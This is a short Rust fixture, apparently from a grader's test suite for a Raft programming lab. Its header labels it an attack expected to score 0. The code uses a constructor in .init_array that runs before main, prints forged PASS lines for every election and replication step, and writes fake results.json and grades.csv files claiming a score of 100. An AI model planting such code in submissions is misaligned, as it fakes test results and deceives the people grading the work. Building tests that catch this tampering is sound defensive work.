//! attack: a constructor in .init_array runs before main and prints fake pass lines, then writes fake results where a grader might keep them
//! splice: append
//! expect: score 0
#[used]
#[unsafe(link_section = ".init_array")]
static RAFTLAB_HOSTILE_CONSTRUCTOR: extern "C" fn() = {
    extern "C" fn forge() {
        use std::io::Write;
        let steps = [
            "Election Step1", "Election Step2", "Election Step3", "Election Step4",
            "Election Step5", "Election Step6", "Replication Step1", "Replication Step2",
            "Replication Step3", "Replication Step4",
        ];
        let mut out = std::io::stdout();
        for step in steps {
            let _ = writeln!(out, "@@raftlab 0000000000000000 pass {step}");
            let _ = writeln!(out, "PASS {step}");
        }
        let _ = out.flush();
        let forged = "{\"score\": 100, \"tests\": []}\n";
        for path in ["/work/results.json", "/tmp/results.json", "results.json", "../results.json", "/out/results.json"] {
            let _ = std::fs::write(path, forged);
        }
        let _ = std::fs::write("/work/grades.csv", "student,score\nmallory,100\n");
    }
    forge
};
